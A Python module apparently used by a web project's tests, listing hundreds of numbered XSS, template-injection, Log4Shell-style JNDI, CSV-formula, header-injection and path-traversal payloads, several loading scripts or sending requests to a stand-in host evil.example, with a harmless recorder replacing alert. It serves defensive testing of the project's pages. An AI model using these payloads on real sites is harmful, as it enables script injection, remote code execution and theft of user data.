"""Payloads that run as code where a page treats them as more than text. Each reports its number.

``%`` is replaced by the code: a call of ``xss``, which ``XSS_RECORDER`` adds to every page. Other payloads send a
request to another host, or show the result of a template.
"""

from __future__ import annotations

CALL = "xss(%d)"
OTHER_HOST = "//evil.example/"
XSS_RECORDER = """
window.xss = number => console.error("RAN " + number);
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = said => console.error("RAN " + name + said);
"""

_TAGS = (
    "<script>%</script>",
    "<ScRiPt>%</sCrIpT>",
    "<script\n>%</script\n>",
    "<script/x>%</script>",
    "</title><script>%</script>",
    "</textarea><script>%</script>",
    "</style><script>%</script>",
    "</script><script>%</script>",
    "--><script>%</script>",
    '<!--<img src="--><img src=x onerror=%//">',
    "<![CDATA[><script>%</script>]]>",
    "<scr<script>ipt>%</scr</script>ipt>",
    "<script src=//evil.example/%></script>",
    "<script type=module>%</script>",
    "<script>eval('%')</script>",
    '"><script>%</script>',
    "'><script>%</script>",
    "`><script>%</script>",
    "<xmp><script>%</script>",
    "<noscript><img src=x onerror=%></noscript>",
    "<svg><script>%</script></svg>",
    "<svg><script href=//evil.example/%></script>",
    "<math><mtext><script>%</script>",
    "<template><script>%</script></template>",
    "<plaintext><script>%</script>",
    "<frameset onload=%>",
    "</div></div></body><script>%</script>",
)
_HANDLERS = (
    "<img src=x onerror=%>",
    "<img src=x onerror='%'>",
    "<img/src=x/onerror=%>",
    "<img src onerror=%>",
    '<img src=x:x onerror="%">',
    "<image src=x onerror=%>",
    "<svg onload=%>",
    "<svg/onload=%>",
    "<svg><animate onbegin=% attributeName=x dur=1s>",
    "<svg><set onbegin=% attributeName=x>",
    "<svg><a xlink:href=javascript:%><text y=20>x</text></a>",
    "<svg><image href=x onerror=%>",
    "<svg><foreignObject><img src=x onerror=%></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg onload=%>">',
    "<body onload=%>",
    "<body onpageshow=%>",
    "<input autofocus onfocus=%>",
    "<select autofocus onfocus=%>",
    "<textarea autofocus onfocus=%>",
    "<button autofocus onfocus=%>x</button>",
    "<video src=x onerror=%>",
    "<video><source onerror=%>",
    "<audio src=x onerror=%>",
    "<details open ontoggle=%>",
    "<marquee onstart=%>x</marquee>",
    "<iframe onload=%>",
    '<iframe srcdoc="<script>parent.%</script>">',
    "<object data=x onerror=%>",
    "<embed src=x onerror=%>",
    "<link rel=stylesheet href=x onerror=%>",
    "<style onload=%></style>",
    "<div onmouseover=%>x</div>",
    "<div onpointerenter=%>x</div>",
    "<a href=# onclick=%>x</a>",
    "<x onanimationstart=% style=animation:x>",
    "<x tabindex=0 onfocus=% autofocus>",
    "<dialog open onclose=%>",
    "<form><button formaction=javascript:%>x",
    "<keygen autofocus onfocus=%>",
    '" onmouseover="%" x="',
    "' onmouseover='%' x='",
    '" autofocus onfocus=% x="',
    "x onerror=% src=x",
    '" onload="%',
    "`onmouseover=%`",
    "<img src=x onerror=&#120;&#115;&#115;(0)>",
    "<img src=x onerror=\\u0078ss(0)>",
    "<img src='x'onerror=%>",
    "<IMG SRC=x ONERROR=%>",
    "<img\tsrc=x\tonerror=%>",
    "<img\x0csrc=x\x0conerror=%>",
)
_ADDRESSES = (
    "javascript:%",
    "JaVaScRiPt:%",
    " javascript:%",
    "java\tscript:%",
    "java\nscript:%",
    "\x01javascript:%",
    "javascript&colon;%",
    "javascript://%0a%",
    "javascript:%//http://x",
    "vbscript:%",
    "data:text/html,<script>%</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=",
    "<a href=javascript:%>x</a>",
    "<a href='java&#x73;cript:%'>x</a>",
    "<iframe src=javascript:%>",
    "<object data=javascript:%>",
    "<form action=javascript:%><input type=submit>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:%'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<embed src=javascript:%>",
    "<area href=javascript:% shape=default>",
    "//evil.example/x",
    "https://evil.example/x",
    "<img src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<iframe src=//evil.example/></iframe>",
    "<a ping=//evil.example/ href=#>x</a>",
    "<img srcset='//evil.example/x 1x'>",
)
_TEMPLATES = (
    "{{%}}",
    "{{ % }}",
    "{{constructor.constructor('%')()}}",
    "{{_c.constructor('%')()}}",
    "{{$emit.constructor`%`()}}",
    "{{$el.ownerDocument.defaultView.%}}",
    "{{[].constructor.constructor('%')()}}",
    "{{_openBlock.constructor('%')()}}",
    "{{$root.constructor.constructor('%')()}}",
    "${%}",
    "#{%}",
    "<%=%%>",
    "[[%]]",
    "{%%%}",
    "{7*7}",
    "{{7*191}}",
    "${7*191}",
    "#{7*191}",
    "<div v-html=\"'<img src=x onerror=%>'\">",
    '<div :class="%">',
    "<x @click=%>",
    "<component :is=\"'script'\">%</component>",
    "<x v-on:mouseover=%>x</x>",
    '<p v-show="_c.constructor`%`()">',
    "<teleport to=body><img src=x onerror=%></teleport>",
    "v-html=\"'<img src=x onerror=%>'\"",
    '@click="%"',
    ":innerHTML=\"'<img src=x onerror=%>'\"",
    "props.row.x; %",
    "{0.__class__}",
    "%(x)s %s %d",
    "__import__('os').system('x')",
    "${jndi:ldap://evil.example/x}",
)
_MARKDOWN = (
    "[x](javascript:%)",
    "[x](<javascript:%>)",
    "[x]( javascript:% )",
    "[x](java&#10;script:%)",
    "[x](data:text/html,<script>%</script>)",
    '![x](x" onerror="%)',
    "![x](//evil.example/x)",
    "![x](https://evil.example/x.png)",
    "<javascript:%>",
    "[x]: javascript:%\n[x]",
    "[x](x 'onmouseover=%')",
    "```\n</code></pre><script>%</script>\n```",
    "`<img src=x onerror=%>`",
    "# <img src=x onerror=%>",
    "| <img src=x onerror=%> | x |\n|--|--|",
    "> <svg onload=%>",
    "[![x](x)](javascript:%)",
    "<details><summary><img src=x onerror=%></summary>",
    "$$\\href{javascript:%}{x}$$",
    "```mermaid\ngraph TD; A[<img src=x onerror=%>]\n```",
    "[^1]: <img src=x onerror=%>",
)
_STYLES = (
    "<style>@import '//evil.example/x';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<div style="background:url(//evil.example/x)">',
    '<p style="x:expression(%)">',
    "color:red;background:url(//evil.example/x)",
    "}</style><script>%</script>",
    'red" onmouseover="%',
    "<style>body{display:none}</style>",
)
_COMPONENTS = (  # interpreted by the libraries of our pages
    "<span class=ag-cell onclick=%>x</span>",
    '{"renderMode":"html","formatter":"<img src=x onerror=%>"}',
    "<q-btn @click=%>",
    'html="<img src=x onerror=%>"',
    "innerHTML=<img src=x onerror=%>",
    'content-html="<img src=x onerror=%>"',
    "options-html",
    "{a|<img src=x onerror=%>}",
    "{b}<br/><img src=x onerror=%>",
    'image:x" onerror="%',
    'img:x" onerror="%',
    'svguse:x#x" onload="%',
    "=cmd|' /C calc'!A0",
    "@SUM(1)*cmd|'x'!A0",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "</q-tooltip><img src=x onerror=%>",
)
_ODD = (
    "%3Cscript%3E&%3C/script%3E",
    "&lt;script&gt;&&lt;/script&gt;",
    "&amp;lt;img src=x onerror=&amp;gt;",
    "\\x3cscript\\x3e&\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=&\\u003e",
    "+ADw-script+AD4-&+ADw-/script+AD4-",
    "＜script＞&＜/script＞",
    "<\u0000script>&</script>",
    "<scr\u200bipt>&</script>",
    "\u202e<tpircs>&",
    "<img src=x o\u00adnerror=&>",
    "ʼ onmouseover=&",
    "\ufeff<script>&</script>",
    "\u2028&\u2029",
    "';&;//",
    '";&;//',
    "`;&;//",
    "\\';&;//",
    "</script>';&//",
    "*/&/*",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>&</script>",
    "\x1b]0;<img src=x onerror=&>\x07",
    "\x1b[31m<img src=x onerror=&>\x1b[0m",
    "\x1b]8;;javascript:&\x07x\x1b]8;;\x07",
    "'-&-'",
    '"-&-"',
    "-&-",
    "null;&",
    "../../../../etc/passwd",
    "..\\..\\x",
    "A" * 200 + "<img src=x onerror=&>",
    "<" * 60,
    "🙂<img src=x onerror=&>",
    "زين<img src=x onerror=&>",
    "x'||&||'",
    '");&;("',
)


def _numbered() -> tuple[str, ...]:
    texts: list[str] = []
    for mark, family in (
        ("%", _TAGS), ("%", _HANDLERS), ("%", _ADDRESSES), ("%", _TEMPLATES), ("%", _MARKDOWN), ("%", _STYLES),
        ("%", _COMPONENTS), ("&", _ODD),
    ):  # fmt: skip
        for text in family:
            texts.append(text.replace(mark, CALL % len(texts)) if mark in text else text)
    return tuple(texts)


PAYLOADS = _numbered()
FAMILIES = (_TAGS, _HANDLERS, _ADDRESSES, _TEMPLATES, _MARKDOWN, _STYLES, _COMPONENTS, _ODD)


def representative_payloads() -> tuple[str, ...]:
    """Return two payloads of each kind, for tests that open a page for each payload."""
    starts = [sum(map(len, FAMILIES[:number])) for number in range(len(FAMILIES))]
    return tuple(PAYLOADS[start + more] for start in starts for more in (0, 2))


def file_names() -> list[str]:
    """Return the payloads that are valid file names."""
    fits = (text for text in PAYLOADS if "/" not in text and "\0" not in text and len(text.encode()) < 200)
    return list(dict.fromkeys(fits))
